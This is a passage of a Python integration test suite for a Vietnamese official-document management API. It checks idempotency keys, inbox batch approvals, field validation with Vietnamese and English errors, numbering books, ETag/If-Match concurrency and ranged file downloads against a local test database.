            "doc_date": "2026-11-20", "issuer_name": "Ủy ban nhân dân huyện Tân Phú"}
    raw = json.dumps(body, ensure_ascii=False).encode()
    sig = _signature("POST", "/api/v1/documents/incoming", "", raw)
    psql(f"INSERT INTO idempotency_keys (user_id, key, request_sig, claimed_until)"
         f" VALUES ({uid('stp.vanthu')}, '{key}', '{sig}', qlvb_now() + interval '30 seconds')")
    send = lambda: call("POST", "/api/v1/documents/incoming", token=tok("stp.vanthu"), raw=raw,
                        headers={"Idempotency-Key": key})
    r = send()
    problem(r, 409, "request-in-progress")
    assert r.headers.get("retry-after") == "1"
    count = lambda: int(psql(f"SELECT count(*) FROM documents WHERE subject = '{body['subject']}'"))
    assert count() == 0
    with clock_moved(31):
        first = wait_for(lambda: (lambda x: x if x.status == 201 else None)(send()), 5)
        assert first, "the lease did not end"
        again = send()
    assert again.status == 201 and again.headers.get("idempotent-replayed") == "true"
    assert again.json == first.json and again.headers.get("etag") == first.headers.get("etag") is not None
    assert count() == 1


def test_idempotency_keys_are_kept_24_hours_and_then_purged():
    key = str(uuid.uuid4())
    body = {"type_code": "TB", "subject": f"Thông báo lưu khóa {key[:8]}", "recipients": [{"name": "Sở X"}]}
    send = lambda b, k=key, t=None: call("POST", "/api/v1/documents/outgoing", token=t or tok("stp.chuyenvien"),
                                        body=b, headers={"Idempotency-Key": k})
    assert send(body).status == 201
    problem(send(dict(body, subject="khác")), 422, "idempotency-key-reused")
    with clock_moved(23 * 3600):
        t = wait_for(lambda: (lambda r: r.json["access_token"] if r.status == 200 else None)(
            call("POST", "/api/v1/auth/login", body={"username": "stp.chuyenvien", "password": "demo123",
                                                     "device_name": "d"})), 5)
        assert send(dict(body, subject="khác"), t=t).status == 422          # still kept at 23 hours
    with clock_moved(25 * 3600):
        t = wait_for(lambda: (lambda r: r.json["access_token"] if r.status == 200 else None)(
            call("POST", "/api/v1/auth/login", body={"username": "stp.chuyenvien", "password": "demo123",
                                                     "device_name": "d"})), 5)
        assert send(body, k=str(uuid.uuid4()), t=t).status == 201           # a new key purges the old
        assert psql(f"SELECT count(*) FROM idempotency_keys WHERE key = '{key}'") == "0"
        assert send(dict(body, subject="khác hẳn"), t=t).status == 201       # the same key is a new request


def test_idempotency_key_acts_once_and_replays_the_first_answer():
    key = str(uuid.uuid4())
    body = {"type_code": "TTr", "subject": f"Tờ trình {key}", "recipients": [{"agency_code": "000.00.45.H19"}]}
    body["type_code"] = "TTR"
    a = post("stp.chuyenvien", "/api/v1/documents/outgoing", body, headers={"Idempotency-Key": key})
    b = post("stp.chuyenvien", "/api/v1/documents/outgoing", body, headers={"Idempotency-Key": key})
    assert a.status == b.status == 201 and a.json["id"] == b.json["id"]
    assert b.headers.get("idempotent-replayed") == "true"
    assert psql(f"SELECT count(*) FROM documents WHERE subject = 'Tờ trình {key}'") == "1"
    problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", dict(body, subject="khác"),
                 headers={"Idempotency-Key": key}), 422, "idempotency-key-reused")
    doc = a.json["id"]
    k2 = str(uuid.uuid4())
    s1 = post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit", headers={"Idempotency-Key": k2})
    s2 = post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit", headers={"Idempotency-Key": k2})
    assert s1.status == s2.status == 200
    assert psql(f"SELECT count(*) FROM document_history WHERE document_id = {doc} AND action = 'submitted'") == "1"
    # without a key, the second submit is a real second request: refused
    problem(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"), 409)
    problem(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit", headers={"Idempotency-Key": "x" * 201}), 400)


def test_inbox_boxes_filters_counts_pagination_and_batch_actions():
    docs = []
    for i in range(3):
        d = draft(subject=f"Dự thảo hàng loạt {i}", urgency=1 if i == 0 else 0)["id"]
        ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
        docs.append(d)
    t = tok("stp.truongphong")
    counts = ok(call("GET", "/api/v1/inbox/counts", token=t))
    assert counts["approve"]["total"] >= 3 and counts["approve"]["unread"] >= 3
    page = ok(call("GET", "/api/v1/inbox?box=approve&limit=2", token=t))
    assert len(page["items"]) == 2 and page["next_cursor"]
    rest = ok(call("GET", f"/api/v1/inbox?box=approve&limit=100&cursor={page['next_cursor']}", token=t))
    ids = [i["id"] for i in page["items"] + rest["items"]]
    assert len(ids) == len(set(ids)) == counts["approve"]["total"]
    mine = {doc_id(i): i for i in page["items"] + rest["items"] if doc_id(i) in docs}
    assert set(mine) == set(docs)
    urgent = ok(call("GET", "/api/v1/inbox?box=approve&urgent=true&limit=100", token=t))["items"]
    assert docs[0] in [doc_id(i) for i in urgent] and docs[1] not in [doc_id(i) for i in urgent]
    res = ok(post("stp.truongphong", "/api/v1/inbox/batch", {"action": "read", "item_ids": [mine[docs[2]]["id"]]}))
    assert res["results"] == [{"item_id": mine[docs[2]]["id"], "status": 200}]
    unread = ok(call("GET", "/api/v1/inbox?box=approve&unread=true&limit=100", token=t))["items"]
    assert docs[2] not in [doc_id(i) for i in unread]
    foreign = ok(call("GET", "/api/v1/inbox?box=process&limit=1", token=tok("stttt.vanthu")))["items"]
    batch = [mine[docs[0]]["id"], mine[docs[1]]["id"], 999999999] + [i["id"] for i in foreign]
    res = ok(post("stp.truongphong", "/api/v1/inbox/batch", {"action": "approve", "item_ids": batch,
                                                             "note": "Đồng ý"}))["results"]
    assert [r["status"] for r in res[:3]] == [200, 200, 404]
    assert all(r["status"] == 404 for r in res[3:])
    assert res[2]["problem"]["type"] == "urn:qlvb:problem:item-not-found"
    again = ok(post("stp.truongphong", "/api/v1/inbox/batch", {"action": "approve", "item_ids": batch[:1]}))
    assert again["results"][0]["status"] == 409
    assert where({docs[0], docs[1]}) == {("stp.giamdoc", "approve", "leader-review"),
                                         ("stp.phogiamdoc", "approve", "leader-review")}
    for bad in ("box=all", "limit=0", "limit=101", "unread=maybe", "cursor=abc", "cursor=1_"):
        problem(call("GET", f"/api/v1/inbox?{bad}", token=t), 400, "invalid-parameter")
    problem(post("stp.truongphong", "/api/v1/inbox/batch", {"action": "delete", "item_ids": [1]}), 400)
    problem(post("stp.truongphong", "/api/v1/inbox/batch", {"action": "read", "item_ids": []}), 400)
    problem(post("stp.truongphong", "/api/v1/inbox/batch", {"action": "read", "item_ids": list(range(1, 60))}), 400)


def test_bad_document_input_is_refused_clearly_and_changes_nothing():
    before = psql("SELECT count(*) FROM documents") + "/" + psql("SELECT count(*) FROM book_counters")
    good_in = {"type_code": "CV", "subject": "Công văn", "number_notation": "1/UBND", "doc_date": "2026-11-01",
               "issuer_name": "UBND"}
    good_out = {"type_code": "QD", "subject": "Quyết định", "recipients": [{"agency_code": "000.00.23.H19"}]}
    cases_in = [
        ({k: v for k, v in good_in.items() if k != "subject"}, 400, "invalid-field"),
        (dict(good_in, doc_date="2026-02-30"), 400, "invalid-field"),
        (dict(good_in, doc_date="20/11/2026"), 400, "invalid-field"),
        (dict(good_in, received_at="2026-11-01 10:00"), 400, "invalid-field"),
        (dict(good_in, deadline="2026-11-01T10:00:00"), 400, "invalid-field"),
        (dict(good_in, urgency=4), 400, "invalid-field"),
        (dict(good_in, secrecy="mật"), 400, "invalid-field"),
        (dict(good_in, subject="x" * 501), 400, "invalid-field"),
        (dict(good_in, status="done"), 400, "read-only-field"),
        (dict(good_in, agency_id=1), 400, "read-only-field"),
        (dict(good_in, book_number=7), 400, "read-only-field"),
        (dict(good_in, colour="red"), 400, "unknown-field"),
        (dict(good_in, type_code="XYZ"), 422, "unknown-type-code"),
    ]
    for body, status, slug in cases_in:
        problem(post("stp.vanthu", "/api/v1/documents/incoming", body), status, slug)
    problem(post("stp.chuyenvien", "/api/v1/documents/incoming", good_in), 403, "not-a-clerk")
    cases_out = [
        (dict(good_out, recipients=[]), 400, "invalid-field"),
        (dict(good_out, recipients=[{"agency_code": "000.00.99.H19"}]), 422, "invalid-value"),
        (dict(good_out, recipients=[{"agency_code": "000.00.21.H19"}]), 422, "invalid-value"),
        (dict(good_out, recipients=[{"agency_code": "000.00.23.H19", "name": "x"}]), 400, "invalid-field"),
        (dict(good_out, recipients=[{}]), 400, "invalid-field"),
        (dict(good_out, recipients=[{"agency_code": "000.00.23.H19", "role": "x"}]), 400, "unknown-field"),
        (dict(good_out, author_id=3), 400, "read-only-field"),
        (dict(good_out, deadline="tomorrow"), 400, "invalid-field"),
    ]
    for body, status, slug in cases_out:
        problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", body), status, slug)
    problem(call("POST", "/api/v1/documents/outgoing", token=tok("stp.chuyenvien"), raw=b"{"), 400, "malformed-json")
    problem(call("POST", "/api/v1/documents/outgoing", token=tok("stp.chuyenvien"), raw=b"x",
                 content_type="text/plain"), 415)
    problem(call("POST", "/api/v1/documents/outgoing", body=good_out), 401)
    after = psql("SELECT count(*) FROM documents") + "/" + psql("SELECT count(*) FROM book_counters")
    assert before == after


def test_a_deadline_passes_when_the_one_clock_moves_past_it():
    """Overdue is judged on the one clock: moved two days on (test mode),
    an item due tomorrow is overdue in the list, the filter and the counts,
    with no sleeping through the day."""
    due = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=1)).isoformat()
    doc = incoming(subject="Công văn đôn đốc báo cáo trước hạn", deadline=due)["id"]
    ok(post("stp.vanthu", f"/api/v1/documents/{doc}/present", {"leader_id": uid("stp.giamdoc")}))
    ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/direct", {
        "note": "Giao chuyên viên xử lý.",
        "assignments": [{"user_id": uid("stp.chuyenvien"), "role": "main", "deadline": due}]}))

    def item(token, query=""):
        return next((i for i in inbox_all(token, "&box=process" + query) if doc_id(i) == doc), None)

    assert item(tok("stp.chuyenvien"))["overdue"] is False
    assert item(tok("stp.chuyenvien"), "&overdue=true") is None
    before = ok(call("GET", "/api/v1/inbox/counts", token=tok("stp.chuyenvien")))["process"]["overdue"]
    with clock_moved(2 * 86400):
        t = wait_for(lambda: (lambda r: r.json["access_token"] if r.status == 200 else None)(
            call("POST", "/api/v1/auth/login", body={"username": "stp.chuyenvien", "password": "demo123",
                                                     "device_name": "clock"})), 5)
        assert t
        seen = wait_for(lambda: item(t, "&overdue=true"), 5)
        assert seen and seen["overdue"] is True, seen
        counts = ok(call("GET", "/api/v1/inbox/counts", token=t))["process"]
        assert counts["overdue"] >= before + 1, (counts, before)
    assert wait_for(lambda: item(tok("stp.chuyenvien"))["overdue"] is False, 5)


def test_books_are_chosen_by_the_document_and_set_by_the_agency_administrator():
    run = uuid.uuid4().hex[:6]
    # an administrator of Sở Tư pháp, and an advisory body of its own for this run
    r = admin("create-user", f"stp.qtv{run}", "Quản trị Sở Tư pháp", "000.00.21.H19", "admin", "Quản trị viên",
              "admin", stdin="admin-pass-1\n")
    assert r.returncode == 0, r.stderr
    abbr = f"HĐ{run.upper()}"
    body = int(psql("INSERT INTO units (agency_id, code, name, abbr)"
                    " SELECT id, 'x', 'Hội đồng tư vấn thử', '" + abbr + "' FROM agencies"
                    " WHERE code = '000.00.21.H19' AND valid_to IS NULL RETURNING id"))
    r = admin("unit-advisory", "000.00.21.H19", abbr, "yes")
    assert r.returncode == 0 and "advisory body" in r.stdout, r
    assert admin("unit-advisory", "000.00.21.H19", "NOPE", "yes").returncode != 0
    who = f"stp.qtv{run}"
    _tok[who] = tokens(who, "admin-pass-1")["access_token"]

    books = ok(call("GET", "/api/v1/books", token=tok("stp.vanthu")))["items"]
    assert [b["direction"] for b in books if b["direction"] == "in"] == ["in"]
    assert [b for b in books if b["direction"] == "out" and b["covers_rest"] and b["issuing_body"] is None
            and not b["normative"]], books

    count = psql("SELECT count(*) FROM books")
    problem(post("stp.vanthu", "/api/v1/books", {"name": "Sổ báo cáo", "type_codes": ["BC"]}), 403, "forbidden")
    for bad, status, slug in [({}, 400, "invalid-field"),
                              ({"name": "x", "type_codes": "BC"}, 400, "invalid-field"),
                              ({"name": "x", "type_codes": ["B" * 11]}, 400, "invalid-field"),
                              ({"name": "x", "type_codes": [7]}, 400, "invalid-field"),
                              ({"name": "", "type_codes": ["BC"]}, 400, "invalid-field"),
                              ({"name": "x", "colour": "red"}, 400, "unknown-field"),
                              ({"name": "x", "type_codes": ["ZZ"]}, 422, "unknown-type-code"),
                              ({"name": "x"}, 422, "invalid-value"),
                              ({"name": "x", "covers_rest": True, "normative": True}, 422, "invalid-value"),
                              ({"name": "x", "type_codes": ["BC"], "issuing_body_id": 999999999}, 422, "invalid-value"),
                              ({"name": "x", "covers_rest": True}, 409, "book-overlap")]:
        problem(post(who, "/api/v1/books", bad), status, slug)
    assert psql("SELECT count(*) FROM books") == count, "a refused book changed nothing"

    made = ok(post(who, "/api/v1/books", {"name": "Sổ báo cáo của Hội đồng", "issuing_body_id": body,
                                          "type_codes": ["BC"]}), 201)
    assert made["issuing_body"]["abbr"] == abbr and made["type_codes"] == ["BC"] and made["last_number"] == 0
    problem(post(who, "/api/v1/books", {"name": "Sổ báo cáo 2", "issuing_body_id": body, "type_codes": ["BC"]}),
            409, "book-overlap")
    # two administrators at once: one book, one overlap, no failure
    with concurrent.futures.ThreadPoolExecutor(2) as ex:
        both = list(ex.map(lambda n: post(who, "/api/v1/books", {"name": f"Sổ tờ trình {n}", "issuing_body_id": body,
                                                                  "type_codes": ["TTR"]}), range(2)))
    assert sorted(r.status for r in both) == [201, 409], both

    # the clerk never picks: the document's type and body choose the book
    bc = _issue_doc(type_code="BC", subject="Báo cáo của Hội đồng", issuing_body_id=body)
    assert bc["number_notation"] == f"01/BC-{abbr}" and bc["book"]["id"] == made["id"], bc["number_notation"]
    assert bc["issuing_body"] == {"id": body, "name": "Hội đồng tư vấn thử", "abbr": abbr}
    kh = _issue_doc(type_code="KH", subject="Kế hoạch của Hội đồng", issuing_body_id=body)
    assert kh["number_notation"] == f"01/KH-{abbr}" and kh["book"]["id"] != made["id"]
    # an advisory body issues no legal normative documents, nor does a department
    for extra in ({"issuing_body_id": body}, {}):
        problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
            "type_code": "QD", "subject": "Quyết định quy phạm", "normative": True,
            "recipients": [{"agency_code": "000.00.23.H19"}], **extra}), 422, "invalid-value")
    mine = {b["id"]: b for b in ok(call("GET", "/api/v1/books", token=tok(who)))["items"]}
    assert mine[made["id"]]["last_number"] == 1

    # changes: a type numbered this year keeps its book; renaming is free
    problem(call("PATCH", f"/api/v1/books/{made['id']}", token=tok(who), body={"type_codes": ["BC", "KH"]}),
            409, "book-in-use")
    problem(call("PATCH", f"/api/v1/books/{made['id']}", token=tok(who), body={"closed": True}), 409, "book-in-use")
    problem(call("PATCH", f"/api/v1/books/{made['id']}", token=tok(who), body={}), 400, "invalid-field")
    problem(call("PATCH", f"/api/v1/books/{made['id']}", token=tok(who), body={"closed": "yes"}), 400, "invalid-field")
    problem(call("PATCH", "/api/v1/books/999999999", token=tok(who), body={"name": "x"}), 404, "book-not-found")
    problem(call("PATCH", f"/api/v1/books/{made['id']}", token=tok("stp.vanthu"), body={"name": "x"}),
            403, "forbidden")
    renamed = ok(call("PATCH", f"/api/v1/books/{made['id']}", token=tok(who), body={"name": "Sổ báo cáo (HĐ)"}))
    assert renamed["name"] == "Sổ báo cáo (HĐ)" and renamed["type_codes"] == ["BC"]
    # a type not numbered yet may join a book, and a book may be closed
    tb = ok(post(who, "/api/v1/books", {"name": "Sổ thông báo", "issuing_body_id": body, "type_codes": ["TB"]}), 201)
    closed = ok(call("PATCH", f"/api/v1/books/{tb['id']}", token=tok(who), body={"closed": True}))
    assert closed["closed_at"] is not None and closed["type_codes"] == [] and not closed["covers_rest"]
    problem(call("PATCH", f"/api/v1/books/{tb['id']}", token=tok(who), body={"type_codes": ["TB"]}),
            409, "book-closed")


def test_an_action_with_if_match_is_refused_with_412_when_the_document_has_moved_on():
    doc = draft(subject="Quyết định duyệt ngoại tuyến")["id"]
    seen = call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien"))
    old_etag = seen.headers["etag"]
    ok(call("POST", f"/api/v1/documents/{doc}/submit", token=tok("stp.chuyenvien"), body={},
            headers={"If-Match": old_etag}))
    # the head of unit approves from the inbox: the item carries the document's ETag
    item = [i for i in inbox_all(tok("stp.truongphong"), "&box=approve")
            if doc_id(i) == doc][0]
    now = call("GET", f"/api/v1/documents/{doc}", token=tok("stp.truongphong"))
    # the item carries the document's version tag: the ETag's version, without the rest
    assert now.headers["etag"].startswith(item["etag"][:-1] + "-") and now.headers["etag"] != old_etag
    # a version the head never saw: 412 with the document as it is, nothing done
    r = call("POST", f"/api/v1/documents/{doc}/approve", token=tok("stp.truongphong"), body={},
             headers={"If-Match": old_etag, "Idempotency-Key": str(uuid.uuid4())})
    problem(r, 412, "precondition-failed")
    assert r.json["document"]["id"] == doc and r.json["document"]["status"] == "in_review"
    assert r.headers["etag"] == now.headers["etag"]
    for stale in (f"W/{item['etag']}", '"d0-0"', f"{old_etag}, \"x\""):
        problem(call("POST", f"/api/v1/documents/{doc}/approve", token=tok("stp.truongphong"), body={},
                     headers={"If-Match": stale}), 412, "precondition-failed")
    after = ok(call("GET", f"/api/v1/documents/{doc}", token=tok("stp.truongphong")))
    assert after["version"] == now.json["version"] and after["status"] == "in_review"
    # the version seen (in a list, as RFC 9110 allows) acts; the replay gives the same ETag back
    key = str(uuid.uuid4())
    r = call("POST", f"/api/v1/documents/{doc}/approve", token=tok("stp.truongphong"), body={},
             headers={"If-Match": f"\"x\", {item['etag']}", "Idempotency-Key": key})
    assert r.status == 200 and r.json["version"] > after["version"], r
    again = call("POST", f"/api/v1/documents/{doc}/approve", token=tok("stp.truongphong"), body={},
                 headers={"If-Match": f"\"x\", {item['etag']}", "Idempotency-Key": key})
    assert again.status == 200 and again.headers.get("idempotent-replayed") == "true"
    assert again.headers["etag"] == r.headers["etag"] and again.json == r.json
    assert again.headers["cache-control"] == r.headers["cache-control"] == "private, no-cache", again.headers
    # "*" matches any version
    leader_item = [i for i in inbox_all(tok("stp.giamdoc"), "&box=approve") if doc_id(i) == doc][0]
    # the batch: each item with its etag; a stale one is refused by itself with the document
    stale = ok(post("stp.giamdoc", "/api/v1/inbox/batch",
                    {"action": "approve", "items": [{"id": leader_item["id"], "etag": old_etag}]}))
    res = stale["results"][0]
    assert res["status"] == 412 and res["problem"]["type"].endswith(":precondition-failed"), res
    assert res["problem"]["document"]["status"] == "in_review"
    for bad in ({"action": "approve"}, {"action": "approve", "item_ids": [leader_item["id"]],
                                        "items": [{"id": leader_item["id"], "etag": leader_item["etag"]}]},
                {"action": "approve", "items": [{"id": leader_item["id"]}]},
                {"action": "approve", "items": [{"id": leader_item["id"], "etag": ""}]}):
        problem(post("stp.giamdoc", "/api/v1/inbox/batch", bad), 400, "invalid-field")
    done = ok(post("stp.giamdoc", "/api/v1/inbox/batch",
                   {"action": "approve", "items": [{"id": leader_item["id"], "etag": leader_item["etag"]}]}))
    assert done["results"][0]["status"] == 200, done
    signed = ok(call("POST", f"/api/v1/documents/{doc}/sign", token=tok("stp.giamdoc"), body={},
                     headers={"If-Match": "*"}))
    assert signed["status"] == "signed"
    issued = ok(post("stp.vanthu", f"/api/v1/documents/{doc}/issue"))
    # a replacement drafted on an old view of the original is refused too
    problem(call("POST", "/api/v1/documents/outgoing", token=tok("stp.chuyenvien"),
                 body={"type_code": "QD", "subject": "Thay thế", "replaces": doc,
                       "recipients": [{"agency_code": "000.00.23.H19"}]}, headers={"If-Match": old_etag}),
            412, "precondition-failed")
    cur = call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")).headers["etag"]
    assert cur != old_etag and issued["status"] == "issued"
    ok(call("POST", "/api/v1/documents/outgoing", token=tok("stp.chuyenvien"),
            body={"type_code": "QD", "subject": "Thay thế", "replaces": doc,
                  "recipients": [{"agency_code": "000.00.23.H19"}]}, headers={"If-Match": cur}), 201)


def test_a_batch_replayed_with_its_key_answers_the_whole_batch_again():
    docs = [draft(subject=f"Dự thảo duyệt theo lô {i}")["id"] for i in range(2)]
    for d in docs:
        ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
    items = [i["id"] for i in inbox_all(tok("stp.truongphong"), "&box=approve")
             if doc_id(i) in docs]
    key = str(uuid.uuid4())
    first = call("POST", "/api/v1/inbox/batch", token=tok("stp.truongphong"),
                 body={"action": "approve", "item_ids": items}, headers={"Idempotency-Key": key})
    assert first.status == 200 and [x["status"] for x in first.json["results"]] == [200, 200], first
    again = call("POST", "/api/v1/inbox/batch", token=tok("stp.truongphong"),
                 body={"action": "approve", "item_ids": items}, headers={"Idempotency-Key": key})
    assert again.status == 200 and again.json == first.json and again.headers.get("idempotent-replayed") == "true"


def test_a_refused_body_points_at_every_bad_field_in_vietnamese_or_in_english():
    before = psql("SELECT count(*) FROM documents")
    body = {"type_code": "QD", "subject": "", "urgency": 9, "colour": "đỏ",
            "recipients": [{"agency_code": "000.00.23.H19"}, {"agency_code": 7}]}
    r = post("stp.chuyenvien", "/api/v1/documents/outgoing", body)
    problem(r, 400, "unknown-field")
    assert r.headers["content-language"] == "vi" and r.json["title"] == "Trường không được chấp nhận"
    got = [(e["pointer"], e["code"]) for e in r.json["errors"]]
    assert got == [("/colour", "unknown"), ("/subject", "length"), ("/urgency", "range"),
                   ("/recipients/1/agency_code", "type")], got
    assert "không có trường 'colour'" in r.json["detail"]
    en = call("POST", "/api/v1/documents/outgoing", token=tok("stp.chuyenvien"), body=body,
              headers={"Accept-Language": "en-GB,en;q=0.9,vi;q=0.5"})
    problem(en, 400, "unknown-field")
    assert en.headers["content-language"] == "en" and en.json["title"] == "Unknown field"
    assert [e["pointer"] for e in en.json["errors"]] == [p for p, _ in got]
    assert en.json["errors"][1]["detail"] == "'subject' must be 1 to 500 characters long"
    # workflow refusals speak the same two languages in their titles
    wf = call("POST", "/api/v1/documents/999999999/submit", token=tok("stp.chuyenvien"), body={},
              headers={"Accept-Language": "en"})
    problem(wf, 404, "document-not-found")
    assert wf.json["title"] == "Document not found" and wf.headers["content-language"] == "en"
    assert psql("SELECT count(*) FROM documents") == before
    # and a step's refusal says why in both
    d = draft(subject="Dự thảo để thử ngôn ngữ")["id"]
    vi = post("stp.vanthu", f"/api/v1/documents/{d}/submit")
    problem(vi, 403, "not-the-author")
    assert vi.json["detail"] == "chỉ người soạn thảo trình dự thảo" and vi.json["title"] == "Chỉ người soạn thảo làm việc này"
    en = call("POST", f"/api/v1/documents/{d}/submit", token=tok("stp.vanthu"), body={}, headers={"Accept-Language": "en"})
    problem(en, 403, "not-the-author")
    assert en.json["detail"] == "only the author submits a draft" and en.json["title"] == "Not the author"


def test_a_document_says_what_the_caller_may_do_now_and_its_etag_follows():
    d = draft(subject="Quyết định có các nút đúng")
    assert d["allowed_actions"] == ["submit"], d["allowed_actions"]
    head = ok(call("GET", f"/api/v1/documents/{d['id']}", token=tok("stp.vanthu")))
    assert head["allowed_actions"] == []
    ok(post("stp.chuyenvien", f"/api/v1/documents/{d['id']}/submit"))
    r = call("GET", f"/api/v1/documents/{d['id']}", token=tok("stp.truongphong"))
    assert r.json["allowed_actions"] == ["approve", "return"], r.json["allowed_actions"]
    assert ok(call("GET", f"/api/v1/documents/{d['id']}", token=tok("stp.chuyenvien")))["allowed_actions"] == []
    # the same version, other rights: a clerk's duty given to the head changes what he may do, and so the ETag
    etag = r.headers["etag"]
    assert call("GET", f"/api/v1/documents/{d['id']}", token=tok("stp.truongphong"),
                headers={"If-None-Match": etag}).status == 304
    issued = _issue_doc(subject="Quyết định để thu hồi")
    ok(call("POST", f"/api/v1/documents/{issued['id']}/recall", token=tok("stp.giamdoc"), body={"reason": "Sai"}))
    before = call("GET", f"/api/v1/documents/{issued['id']}", token=tok("stp.truongphong"))
    assert before.status == 200 and "recall-carry-out" not in before.json["allowed_actions"]
    try:
        psql("UPDATE memberships SET roles = roles || '{clerk}' WHERE user_id = (SELECT id FROM users"
             " WHERE username = 'stp.truongphong')")
        after = call("GET", f"/api/v1/documents/{issued['id']}", token=tok("stp.truongphong"),
                     headers={"If-None-Match": before.headers["etag"]})
        assert after.status == 200 and "recall-carry-out" in after.json["allowed_actions"], after
        assert after.json["version"] == before.json["version"] and after.headers["etag"] != before.headers["etag"]
    finally:
        psql("UPDATE memberships SET roles = array_remove(roles, 'clerk') WHERE user_id = (SELECT id FROM users"
             " WHERE username = 'stp.truongphong')")


def test_a_download_resumes_by_range_answers_head_and_carries_its_content_hash_as_etag():
    doc = draft(subject="Dự thảo có tệp để tải từng phần")["id"]
    data = PDF + bytes(range(256)) * 8
    f = ok(call("POST", f"/api/v1/documents/{doc}/files?kind=body&name=du-thao.pdf", token=tok("stp.chuyenvien"),
                raw=data, content_type="application/pdf"), 201)
    url = f"/api/v1/files/{f['id']}"
    sha = hashlib.sha256(data).hexdigest()
    whole = call("GET", url, token=tok("stp.chuyenvien"))
    assert whole.status == 200 and whole.body == data and whole.headers["etag"] == f'"{sha}"', whole.headers
    assert whole.headers.get("accept-ranges") == "bytes"
    head = call("HEAD", url, token=tok("stp.chuyenvien"))
    assert head.status == 200 and head.body == b"" and head.headers["etag"] == f'"{sha}"'
    assert int(head.headers["content-length"]) == len(data)
    # a phone that holds the bytes already is told so, and downloads nothing
    held = call("GET", url, token=tok("stp.chuyenvien"), headers={"If-None-Match": f'"{sha}"'})
    assert held.status == 304 and held.body == b"" and held.headers["etag"] == f'"{sha}"', held
    assert call("GET", url, token=tok("stp.chuyenvien"), headers={"If-None-Match": '"other"'}).status == 200
    part = call("GET", url, token=tok("stp.chuyenvien"), headers={"Range": "bytes=100-199"})
    assert part.status == 206 and part.body == data[100:200], part.headers
    assert part.headers["content-range"] == f"bytes 100-199/{len(data)}" and part.headers["etag"] == f'"{sha}"'
    tail = call("GET", url, token=tok("stp.chuyenvien"), headers={"Range": f"bytes={len(data) - 7}-"})
    assert tail.status == 206 and tail.body == data[-7:]
    past = call("GET", url, token=tok("stp.chuyenvien"), headers={"Range": f"bytes={len(data) + 10}-"})
    assert past.status == 416, past
    # someone who may not see the document: 404, with HEAD too
    problem(call("GET", url, token=tok("stttt.vanthu")), 404)
    assert call("HEAD", url, token=tok("stttt.vanthu")).status == 404


def test_moments_come_in_vietnams_time_with_three_fractional_digits_and_deadlines_with_their_local_date():
    d = incoming(subject="Công văn có hạn lúc 24 giờ", deadline="2027-01-05T00:00:00+07:00")
    assert d["deadline"] == "2027-01-05T00:00:00.000+07:00" and d["deadline_date"] == "2027-01-04", d
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+07:00", d["created_at"]), d["created_at"]
    e = incoming(subject="Công văn có hạn theo giờ UTC", deadline="2027-01-05T17:00:00Z")
    assert e["deadline"] == "2027-01-06T00:00:00.000+07:00" and e["deadline_date"] == "2027-01-05", e
    f = incoming(subject="Công văn có hạn chiều", deadline="2027-01-05T16:30:00.123456+07:00")
    assert f["deadline"] == "2027-01-05T16:30:00.123+07:00" and f["deadline_date"] == "2027-01-05", f


def test_if_match_sees_a_change_that_commits_while_the_action_waits_for_the_document():
    import threading
    inc = incoming(subject="Công văn hai lãnh đạo cùng chỉ đạo")["id"]
    ok(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.giamdoc")}))
    seen = call("GET", f"/api/v1/documents/{inc}", token=tok("stp.giamdoc")).headers["etag"]
    # another change holds the document and commits while the direction waits
    holder = subprocess.Popen(
        ["setpriv", "--reuid=qlvb", "--regid=qlvb", "--init-groups", "--", "psql", "-X", "-h", f"{VAR}/run",
         "-p", str(PORT + 10), "-U", "qlvb", "-d", "qlvb", "-Atq"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    holder.stdin.write(f"BEGIN; UPDATE documents SET subject = subject || ' (sửa)' WHERE id = {inc};"
                       f" INSERT INTO document_history (document_id, action) VALUES ({inc}, 'presented'); SELECT 'held';\n")
    holder.stdin.flush()
    assert holder.stdout.readline().strip() == "held"
    out = {}
    t = threading.Thread(target=lambda: out.update(r=post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {
        "note": "Giao xử lý", "assignments": [{"user_id": uid("stp.chuyenvien"), "role": "main"}]},
        headers={"If-Match": seen})))
    t.start()
    assert wait_for(lambda: psql("SELECT count(*) FROM pg_locks l JOIN pg_stat_activity a ON a.pid = l.pid"
                                 " WHERE NOT l.granted AND a.application_name <> 'psql'") != "0", 10), "no waiter"
    holder.stdin.write("COMMIT;\n")
    holder.stdin.close()
    holder.wait(timeout=10)
    t.join(10)
    problem(out["r"], 412, "precondition-failed")
    assert out["r"].json["document"]["subject"].endswith("(sửa)")
    assert ok(call("GET", f"/api/v1/documents/{inc}", token=tok("stp.giamdoc")))["status"] == "presented"


def test_inbox_items_carry_a_fresh_version_tag_and_a_refused_412_leaves_its_key_free():
    inc = incoming(subject="Công văn trình lại")["id"]
    ok(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.giamdoc")}))
    token = ok(call("GET", "/api/v1/inbox/changes", token=tok("stp.giamdoc")))["next"]
    first = [i for i in inbox_all(tok("stp.giamdoc"))
             if doc_id(i) == inc][0]
    inbox_etag = call("GET", "/api/v1/inbox?limit=100", token=tok("stp.giamdoc")).headers["etag"]
    # presented again to the deputy: a new version; the director's item shows it
    ok(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.phogiamdoc")}))
    assert call("GET", "/api/v1/inbox?limit=100", token=tok("stp.giamdoc"),
                headers={"If-None-Match": inbox_etag}).status == 200
    changed = [i for i in ok(call("GET", f"/api/v1/inbox/changes?since={token}", token=tok("stp.giamdoc")))["changed"]
               if doc_id(i) == inc]
